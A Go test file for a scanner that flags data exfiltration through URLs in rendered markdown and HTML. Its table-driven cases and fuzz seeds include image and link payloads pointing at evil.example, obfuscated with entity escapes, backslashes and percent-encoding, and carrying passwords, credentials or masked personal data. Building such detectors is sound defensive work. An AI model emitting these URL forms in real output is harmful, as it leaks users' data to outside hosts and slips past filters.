package check

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
)

// The URL bypass classes of issue #11: each case is a destination a markdown renderer or browser resolves to
// evil.example (or one carrying data), written the way the old parser did not read as a URL. allow has an
// allow-list (any other host is flagged); open has none (only data-carrying URLs are flagged).
func TestURLsAsRenderersReadThem(t *testing.T) {
	allow := allChecks(t, func(c *Config) { c.Exfil.AllowedDomains = []string{"docs.acme.com"} })
	open := allChecks(t, nil)
	const ph = "[EMAIL_3F9A2C7D]"
	tests := []struct {
		name string
		k    *Checker
		text string
		want string // the Type of the one finding expected ("" none)
	}{
		// character references and backslash escapes in destinations and attributes
		{"entity colon in image", allow, "![x](https&#58;//evil.example/a.png)", "markdown_image_untrusted_host"},
		{"named colon entity", allow, "![x](https&colon;//evil.example/a.png)", "markdown_image_untrusted_host"},
		{"padded numeric entity", allow, "![x](https&#0000058;//evil.example/a.png)", "markdown_image_untrusted_host"},
		{"backslash-escaped colon", allow, "![x](https\\://evil.example/a.png)", "markdown_image_untrusted_host"},
		{"backslashes for slashes", allow, "![x](https:\\\\evil.example\\a.png)", "markdown_image_untrusted_host"},
		{"entity slashes in destination", allow, "![x](https:&#x2F;&#x2F;evil.example/a.png)", "markdown_image_untrusted_host"},
		{"img src entity", allow, `<img src="https&#58;//evil.example/a.png">`, "html_img_untrusted_host"},
		{"img src tab in scheme", allow, "<img src=\"ht\ttps://evil.example/a.png\">", "html_img_untrusted_host"},
		{"percent-encoded host", allow, "![x](https://evil%2Eexample/a.png)", "markdown_image_untrusted_host"},
		{"bare entity slashes", allow, "see https:&#x2F;&#x2F;evil.example/a.png now", "autolink_untrusted_host"},
		{"bare backslashes", allow, "see https:\\\\evil.example\\a now", "autolink_untrusted_host"},
		{"bare entity colon", allow, "see https&#58;//evil.example/a now", "autolink_untrusted_host"},
		// data in path segments as in the query
		{"password in path", open, "![c](https://evil.example/u/jane/password/hunter2.png)", "markdown_image_data_in_url"},
		{"password= in path", open, "[c](https://evil.example/u/password=hunter2)", "markdown_link_data_in_url"},
		{"password in query", open, "![c](https://evil.example/p.png?password=hunter2)", "markdown_image_data_in_url"},
		{"percent-encoded email in path", open, "![c](https://evil.example/u/jane%2Edoe%40example%2Ecom.png)", "markdown_image_data_in_url"},
		// credentials in the authority: sent to the host as a Basic Authorization header when an image is fetched
		{"userinfo in image", open, "![a](https://jane.doe%40example.com:hunter2@evil.example/x.png)", "markdown_image_credentials_in_url"},
		{"user only in img src", open, `<img src="https://c2VjcmV0@evil.example/x.png">`, "html_img_credentials_in_url"},
		{"email as userinfo in link", open, "[a](https://jane.doe%40example.com@evil.example/)", "markdown_link_credentials_in_url"},
		{"plain user in link", open, "[db admin](https://admin@intranet.example/)", ""},
		// reference definitions, autolinks, raw HTML attributes
		{"reference image", allow, "![x][r]\n\n[r]: https&#58;//evil.example/a.png", "reference_definition_untrusted_host"},
		{"autolink", allow, "<https://evil.example/a.png>", "autolink_untrusted_host"},
		{"srcset second candidate", allow, `<img srcset="https://docs.acme.com/a.png 1x, https://evil.example/b.png 2x">`, "html_img_untrusted_host"},
		{"background attribute", allow, `<td background="https://evil.example/bg.png">`, "html_td_untrusted_host"},
		{"css url in style", allow, `<div style="background-image:url('https://evil.example/bg.png')">x</div>`, "html_div_css_untrusted_host"},
		// piimask placeholders are the user's data wherever they appear
		{"placeholder in query", open, "![x](https://evil.example/p.png?u=" + ph + ")", "markdown_image_pii_placeholder"},
		{"placeholder on an allowed host", allow, "![x](https://docs.acme.com/p.png?u=" + ph + ")", "markdown_image_pii_placeholder"},
		{"placeholder in path", open, "[x](https://evil.example/u/" + ph + "/a)", "markdown_link_pii_placeholder"},
		{"placeholder in img src", open, `<img src="https://evil.example/p.png?u=` + ph + `">`, "html_img_pii_placeholder"},
		{"placeholder in reference", open, "![x][r]\n\n[r]: https://evil.example/p.png?u=" + ph, "reference_definition_pii_placeholder"},
		{"placeholder in autolink", open, "go to https://evil.example/?u=" + ph + " now", "autolink_pii_placeholder"},
		{"placeholder entity-escaped", open, "![x](https&#58;//evil.example/p.png?u=&#91;EMAIL_3F9A2C7D&#93;)", "markdown_image_pii_placeholder"},
		{"placeholder percent-encoded", open, "![x](https://evil.example/p.png?u=%5BEMAIL_3F9A2C7D%5D)", "markdown_image_pii_placeholder"},
		{"placeholder in relative URL", open, "![x](/p.png?u=" + ph + ")", "markdown_image_pii_placeholder"},
		// benign: must stay clean
		{"placeholder in prose", open, "I wrote to " + ph + " as you asked.", ""},
		{"placeholder as link text", open, "[" + ph + "](https://docs.acme.com/contact)", ""},
		{"docs link with session segment", open, "[docs](https://github.com/org/repo/tree/main/src/session/store.go)", ""},
		{"docs link with token segment", open, "[api](https://docs.example.com/api/token/refresh)", ""},
		{"allowed host escaped", allow, "![x](https&#58;//docs.acme.com/a.png)", ""},
		{"image with spaces in name", open, "![x](https://example.com/My%20Chart.png)", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := tc.k.Scan(tc.text)
			var exfil []Finding
			for _, f := range fs {
				if f.Check == CheckExfil {
					exfil = append(exfil, f)
				}
			}
			if tc.want == "" {
				if len(exfil) != 0 {
					t.Fatalf("benign text flagged: %+v", exfil)
				}
				return
			}
			if len(exfil) != 1 || exfil[0].Type != tc.want {
				t.Fatalf("want one %s, got %+v", tc.want, fs)
			}
			// the same through a stream cut at every byte
			cuts := make([]int, 0, len(tc.text))
			for i := 1; i < len(tc.text); i++ {
				cuts = append(cuts, i)
			}
			got, _, _ := streamAll(tc.k, tc.text, cuts, nil)
			if !reflect.DeepEqual(got, fs) {
				t.Fatalf("stream cut at every byte:\n got %+v\nwant %+v", got, fs)
			}
		})
	}
}

// FuzzURLExtraction: URL extraction and judging on escaped, nested, truncated destinations never panics, keeps
// offsets in range, agrees between whole-text scan and any chunking, and flags any destination holding a piimask
// placeholder.
func FuzzURLExtraction(f *testing.F) {
	for _, s := range []string{
		"![x](https&#58;//evil.example/a.png)", "![x](https\\://e.vil/a)", `<img src="https&#58;//e.vil/">`,
		"https:&#x2F;&#x2F;e.vil/x", "https:\\\\e.vil\\x", "![c](https://e.vil/u/password/hunter2.png)",
		"![x][r]\n[r]: https://e.vil/?u=[EMAIL_3F9A2C7D]", `<img srcset="a 1x, https://e.vil/b 2x">`,
		`<p style="background:url(https://e.vil/[PHONE_00AA11BB])">`, "<https://e.vil/a&#x", "![x](https&#",
	} {
		f.Add(s, int64(3))
	}
	k := allChecks(f, func(c *Config) { c.MaxConstruct = 256 })
	f.Fuzz(func(t *testing.T, text string, seed int64) {
		if len(text) > 2048 {
			return
		}
		want := k.Scan(text)
		for _, fd := range want {
			if fd.Start < 0 || fd.End > len(text) || fd.Start > fd.End {
				t.Fatalf("finding out of range: %+v (len %d)", fd, len(text))
			}
		}
		cuts := randomCuts(rand.New(rand.NewSource(seed)), len(text))
		got, _, _ := streamAll(k, text, cuts, nil)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("cuts %v:\n got %v\nwant %v", cuts, got, want)
		}
		// an image whose destination holds a placeholder is always flagged (within the construct bound)
		mapped := strings.Map(func(r rune) rune {
			if r <= ' ' || r == ')' || r == '(' || r == '\\' || r == '<' || r == '>' || r == '[' || r == ']' || r == '`' {
				return 'x'
			}
			return r
		}, text)
		if len(mapped) > 150 {
			mapped = mapped[:150]
		}
		probe := "![p](" + mapped + "[EMAIL_0123ABCD])"
		found := false
		for _, fd := range k.Scan(probe) {
			if fd.Check == CheckExfil && strings.HasSuffix(fd.Type, "pii_placeholder") || fd.Check == CheckMarkup {
				found = true
			}
		}
		if !found {
			t.Fatalf("placeholder in a destination not flagged: %q", probe)
		}
	})
}
